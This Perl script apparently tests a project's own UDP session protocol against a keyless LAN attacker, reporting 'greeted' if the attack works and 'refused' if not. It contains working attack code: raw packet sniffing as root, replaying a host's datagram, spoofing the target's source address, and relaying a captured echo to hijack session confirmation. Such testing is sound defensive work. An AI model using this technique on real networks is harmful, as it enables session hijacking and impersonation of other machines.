#!/usr/bin/perl
# A keyless attacker who can see and send datagrams with any source
# address (a LAN) tries to have TARGET confirm HOST's current session
# at the attacker's own address (doc/protocol.md, "UDP datagrams"):
# it replays a datagram of HOST to TARGET, sends the challenge that
# draws on to HOST as if from TARGET, catches HOST's echo on its way to
# TARGET and sends it on from its own address.  Prints "greeted" when
# TARGET then sends a hello to the attacker's address (it believed the
# session there), "refused" otherwise.  Needs root (AF_PACKET on lo).
#
#   echo-steal.pl HOST-ADDR TARGET-ADDR ATTACKER-ADDR
use strict;
use warnings;
use IO::Socket::INET;
use IO::Select;
use Socket ();

my ($host, $target, $me) = @ARGV;
my $PORT = 65027;
socket(my $pk, 17, 3, 0x0300) or die "AF_PACKET: $!";	# ETH_P_ALL

# The next UDP datagram seen on lo from SRC to DST (any if undef) whose
# payload matches RE: the payload.
sub sniff {
	my ($src, $dst, $re) = @_;
	my $sel = IO::Select->new($pk);
	my $end = time + 10;
	while (time < $end) {
		next unless $sel->can_read(1);
		recv($pk, my $f, 65535, 0);
		my $ip = substr($f, 14);
		next unless length($ip) > 28 && ord(substr($ip, 9, 1)) == 17;
		my $hl = (ord(substr($ip, 0, 1)) & 15) * 4;
		my ($sp, $dp) = unpack('nn', substr($ip, $hl, 4));
		next unless $sp == $PORT && $dp == $PORT;
		next unless Socket::inet_ntoa(substr($ip, 12, 4)) eq $src;
		next if defined $dst && Socket::inet_ntoa(substr($ip, 16, 4)) ne $dst;
		my $p = substr($ip, $hl + 8);
		return $p if $p =~ $re;
	}
	die "nothing from $src seen";
}

# The body of a datagram.
sub body {
	my $d = shift;
	my $off = 5 + 4 + 24;
	for (1 .. 2) { $off += 4 + unpack('N', substr($d, $off, 4)) }
	return substr($d, $off + 4, unpack('N', substr($d, $off, 4)));
}

my $to = sub { Socket::pack_sockaddr_in($PORT, Socket::inet_aton($_[0])) };
my $u = IO::Socket::INET->new(Proto => 'udp', LocalAddr => $me) or die "udp: $!";
my $hello = sniff($host, undef, qr/^ISC\x02\x01/s);
send($u, $hello, 0, $to->($target)) or die "send: $!";
my $sel = IO::Select->new($u);
my $chal;
while ($sel->can_read(3)) {
	recv($u, my $d, 2048, 0);
	if ($d =~ /^ISC\x02\x07/s) { $chal = $d; last }
}
die "no challenge" unless defined $chal;
my $nonce = body($chal);
my $spoof = IO::Socket::INET->new(Proto => 'udp', LocalAddr => $target,
    LocalPort => $PORT, ReuseAddr => 1) or die "spoof: $!";
send($spoof, $chal, 0, $to->($host)) or die "send: $!";
close($spoof);
my $echo;
for (1 .. 50) {
	$echo = sniff($host, $target, qr/^ISC\x02\x08/s);
	last if substr(body($echo), 0, 8) eq $nonce;
	undef $echo;
}
die "no echo" unless defined $echo;
send($u, $echo, 0, $to->($target)) or die "send: $!";
while ($sel->can_read(3)) {
	recv($u, my $d, 2048, 0);
	if ($d =~ /^ISC\x02\x01/s) { print "greeted\n"; exit 0 }
}
print "refused\n";
